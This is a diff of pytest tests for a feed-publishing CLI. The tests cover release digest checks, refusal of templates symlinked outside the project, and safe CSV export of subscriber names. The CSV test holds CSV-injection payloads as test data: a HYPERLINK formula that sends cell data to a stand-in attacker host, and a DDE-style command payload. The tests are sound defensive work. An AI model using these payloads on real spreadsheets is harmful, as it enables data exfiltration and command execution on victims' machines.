@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 from click.testing import CliRunner
+from release_files import write_release
 
 from publisher import build
 from publisher.cli import main
@@ -218,11 +219,12 @@ def test_item5_rss_channel_descriptions_are_plain_text_for_feed_readers(root: Pa
         encoding="utf-8",
     )
     for release in (root / "data" / "releases").glob("*.yaml"):
-        release.write_text(
+        # A hostile pull request re-freezes what it edits (the digest is no secret).
+        write_release(
+            release,
             re.sub(
                 r"- title: Topics.*", f"- title: '{HOSTILE}'", release.read_text(encoding="utf-8")
             ),
-            encoding="utf-8",
         )
     result = run(root, "build")
     assert result.exit_code == 0, result.output
@@ -519,14 +521,13 @@ def test_item10_the_two_key_variables_must_agree(root: Path) -> None:
 def test_item8_section_ids_sharing_a_feed_folder_are_refused(
     root: Path, first: str, second: str, folder: str
 ) -> None:
-    release = root / "data" / "releases" / "2024.04.yaml"
-    release.write_text(
+    write_release(
+        root / "data" / "releases" / "2024.04.yaml",
         'release:\n  version: "2024.04"\n  date: 2024-04-01\ntitle: T\nsections:\n'
         f"  - title: One\n    id: '{first}'\n    resources:\n"
         "      - title: R1\n        url: https://one.example.org/\n"
         f"  - title: Two\n    id: '{second}'\n    resources:\n"
         "      - title: R2\n        url: https://two.example.org/\n",
-        encoding="utf-8",
     )
     for command in ("validate", "build"):
         result = run(root, command)
@@ -649,6 +650,64 @@ def test_item4_refreeze_refuses_a_release_that_does_not_load(root: Path) -> None
     result = run(root, "release", "2024.04", "--refreeze")
     assert result.exit_code == 1
     assert "data/releases/2024.04.yaml" in result.output
+
+
+def test_item4_a_release_without_a_digest_is_refused_with_how_to_freeze_it(root: Path) -> None:
+    path = released(root)
+    # The attack of item 4 with the digest line taken out as well: a copy cut short.
+    data = re.sub(rb'^  digest: "sha256:[0-9a-f]{64}"\n', b"", path.read_bytes(), flags=re.M)
+    path.write_bytes(data[: data.rindex(b"      - title: Course 2")])
+    for command in ("validate", "build"):
+        result = run(root, command)
+        assert result.exit_code == 1, result.output
+        assert "data/releases/2024.04.yaml: release.digest: missing" in result.output
+        assert "publisher release 2024.04 --refreeze" in result.output
+        assert "Traceback" not in result.output
+    assert not (root / "feeds").exists()
+    assert run(root, "release", "2024.04", "--refreeze").exit_code == 0
+    assert run(root, "validate").exit_code == 0
+
+
+def test_item4_import_history_writes_releases_with_their_digest(tmp_path: Path) -> None:
+    import subprocess
+
+    repo = tmp_path / "repo"
+    repo.mkdir()
+
+    def git(*arguments: str, date: str) -> None:
+        environment = {
+            "GIT_AUTHOR_DATE": date,
+            "GIT_COMMITTER_DATE": date,
+            "GIT_CONFIG_NOSYSTEM": "1",
+            "HOME": str(tmp_path),
+            "PATH": "/usr/bin:/bin",
+        }
+        subprocess.run(
+            ["git", *arguments], cwd=repo, env=environment, check=True, capture_output=True
+        )
+
+    git("init", "-q", "-b", "main", date="2024-01-01T09:00:00Z")
+    git("config", "user.name", "Curator", date="2024-01-01T09:00:00Z")
+    git("config", "user.email", "curator@example.org", date="2024-01-01T09:00:00Z")
+    for day, titles in (("2024-01-05", "AB"), ("2024-01-09", "ABC")):
+        bullets = "".join(f"- [{title}](https://example.org/{title})\n" for title in titles)
+        (repo / "README.md").write_text(f"# Road Map\n\n## Courses\n\n{bullets}", "utf-8")
+        git("add", "README.md", date=f"{day}T09:00:00Z")
+        git("commit", "-q", "-m", f"Add {titles[-1]}", date=f"{day}T09:00:00Z")
+    project = tmp_path / "project"
+    assert run(tmp_path, "init", str(project)).exit_code == 0
+    shutil.rmtree(project / "data" / "releases", ignore_errors=True)
+    result = run(project, "import-history", str(repo), "--file", "README.md")
+    assert result.exit_code == 0, result.output
+    written = sorted((project / "data" / "releases").glob("*.yaml"))
+    assert [path.name for path in written] == ["2024.01.05.yaml", "2024.01.09.yaml"]
+    for path in written:
+        assert re.search(rb'^  digest: "sha256:[0-9a-f]{64}"$', path.read_bytes(), re.M)
+    assert run(project, "validate").exit_code == 0, run(project, "validate").output
+    written[0].write_bytes(written[0].read_bytes().replace(b"example.org/A", b"evil.example/A"))
+    result = run(project, "validate")
+    assert result.exit_code == 1
+    assert "data/releases/2024.01.05.yaml: release.digest:" in result.output
 
 
 # --- item 12: temporaries left by a killed build --------------------------------------------
@@ -882,3 +941,65 @@ def test_a_sandbox_violation_in_an_included_template_names_that_file_and_line(
     assert "'append' of 'list' object is unsafe" in result.output
     assert "Traceback" not in result.output
     assert not (root / "feeds").exists()
+
+
+@pytest.mark.parametrize("link", ["file", "folder"])
+def test_item3_a_template_symlinked_out_of_the_project_is_refused_unread(
+    root: Path, outside: Path, link: str
+) -> None:
+    """page.css is included in the page as written: a link to a secret would publish it."""
+    (outside / "page").mkdir()
+    secret = outside / "page" / "page.css"
+    secret.write_text("root:secret-hash:19000\n", encoding="utf-8")
+    if link == "file":
+        (root / "templates" / "page").mkdir(parents=True)
+        (root / "templates" / "page" / "page.css").symlink_to(secret)
+    else:
+        (root / "templates").symlink_to(outside, target_is_directory=True)
+    result = run(root, "build")
+    assert result.exit_code == 1, result.output
+    assert "templates/page/page.css: is a symbolic link to a file outside the project" in (
+        result.output
+    )
+    assert "secret-hash" not in result.output
+    assert "Traceback" not in result.output
+    assert not (root / "feeds").exists()
+
+
+def test_item3_a_template_symlinked_inside_the_project_is_read(root: Path) -> None:
+    (root / "styles").mkdir()
+    (root / "styles" / "site.css").write_text("body { color: #123456 }\n", encoding="utf-8")
+    (root / "templates" / "page").mkdir(parents=True)
+    (root / "templates" / "page" / "page.css").symlink_to(root / "styles" / "site.css")
+    result = run(root, "build")
+    assert result.exit_code == 0, result.output
+    assert "#123456" in (root / "feeds" / "index.html").read_text(encoding="utf-8")
+
+
+# --- CSV injection: the subscriber export opens safely in a spreadsheet ---------------------
+
+
+def test_subscriber_export_never_hands_a_spreadsheet_a_formula(root: Path) -> None:
+    import csv
+    import io
+
+    from publisher.subscribers import parse_subscribers
+
+    # A name typed into `publisher serve`'s subscribe form reaches the export as it was typed.
+    people = {
+        "-2+3@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
+        "ann@example.org": "'=typed with its apostrophe",
+        "bob@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "cy@example.org": "+Cy",
+        "di@example.org": "Di O'Neil",
+    }
+    for address, name in people.items():
+        added = run(root, "subscribers", "add", "--name", name, "--confirmed", "--", address)
+        assert added.exit_code == 0, added.output
+    exported = run(root, "subscribers", "export")
+    assert exported.exit_code == 0, exported.output
+    for row in csv.reader(io.StringIO(exported.output)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), row
+    read_back = parse_subscribers(exported.output, label="export.csv", known_sections=frozenset())
+    assert {person.address: person.name for person in read_back} == people
